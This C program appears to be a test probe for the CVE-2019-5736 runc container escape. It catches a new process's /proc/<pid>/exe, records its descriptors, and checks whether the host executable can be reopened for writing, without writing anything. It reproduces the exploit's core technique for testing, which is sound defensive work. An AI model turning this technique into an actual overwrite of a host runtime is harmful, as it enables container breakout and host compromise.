/* The CVE-2019-5736 attack, as a process in the container with CAP_SYS_PTRACE would try it.
 *
 * usage: exe_grabber SKIP_DEV SKIP_INO REPORT
 * Watches /proc for a new process whose executable is not (SKIP_DEV, SKIP_INO) (busybox, which
 * the exec'd shell becomes), holds an O_PATH descriptor to its /proc/<pid>/exe, lists its open
 * descriptors while it still runs that executable, waits until it is gone, then tries to open the
 * held file for writing through /proc/self/fd/N (append, no truncation; nothing is written).
 * REPORT gets one line per finding: "exe DEV INO", "readonly 0|1" (the held file's mount),
 * "fd N TARGET", "still-exe 0|1", "reopen ERRNO" (0: the open succeeded).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <time.h>
#include <unistd.h>

static int seen[1 << 16];

static void mark_existing(void) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    while ((e = readdir(d)) != NULL) {
        int pid = atoi(e->d_name);
        if (pid > 0 && pid < (1 << 16)) seen[pid] = 1;
    }
    closedir(d);
}

int main(int argc, char **argv) {
    if (argc != 4) return 2;
    dev_t skip_dev = strtoull(argv[1], NULL, 10);
    ino_t skip_ino = strtoull(argv[2], NULL, 10);
    FILE *report = fopen(argv[3], "w");
    if (report == NULL) return 3;
    mark_existing();
    char path[600], target[512];
    time_t deadline = time(NULL) + 60;
    for (;;) {
        if (time(NULL) > deadline) {
            fprintf(report, "timeout\n");
            return 4;
        }
        DIR *d = opendir("/proc");
        struct dirent *e;
        int caught = 0, fd = -1, pid = 0;
        struct stat st;
        while ((e = readdir(d)) != NULL) {
            pid = atoi(e->d_name);
            if (pid <= 0 || pid >= (1 << 16) || seen[pid]) continue;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            fd = open(path, O_PATH | O_CLOEXEC);
            if (fd < 0) continue; /* gone, or not yet open to us: try again next round */
            seen[pid] = 1;
            if (fstat(fd, &st) == 0 && !(st.st_dev == skip_dev && st.st_ino == skip_ino)) {
                caught = 1;
                break;
            }
            close(fd);
        }
        closedir(d);
        if (!caught) continue;
        fprintf(report, "exe %llu %llu\n", (unsigned long long)st.st_dev, (unsigned long long)st.st_ino);
        struct statvfs vfs;
        fprintf(report, "readonly %d\n", fstatvfs(fd, &vfs) == 0 && (vfs.f_flag & ST_RDONLY) != 0);
        snprintf(path, sizeof path, "/proc/%d/fd", pid);
        DIR *fds = opendir(path);
        if (fds != NULL) {
            while ((e = readdir(fds)) != NULL) {
                if (e->d_name[0] == '.') continue;
                snprintf(path, sizeof path, "/proc/%d/fd/%s", pid, e->d_name);
                ssize_t n = readlink(path, target, sizeof target - 1);
                target[n < 0 ? 0 : n] = 0;
                fprintf(report, "fd %s %s\n", e->d_name, target);
            }
            closedir(fds);
        }
        struct stat now;
        snprintf(path, sizeof path, "/proc/%d/exe", pid);
        fprintf(report, "still-exe %d\n", stat(path, &now) == 0 && now.st_dev == st.st_dev && now.st_ino == st.st_ino);
        snprintf(path, sizeof path, "/proc/%d", pid);
        while (access(path, F_OK) == 0) usleep(1000);
        usleep(100000);
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
        fprintf(report, "reopen %d\n", w < 0 ? errno : 0);
        if (w >= 0) close(w);
        fclose(report);
        return 0;
    }
}
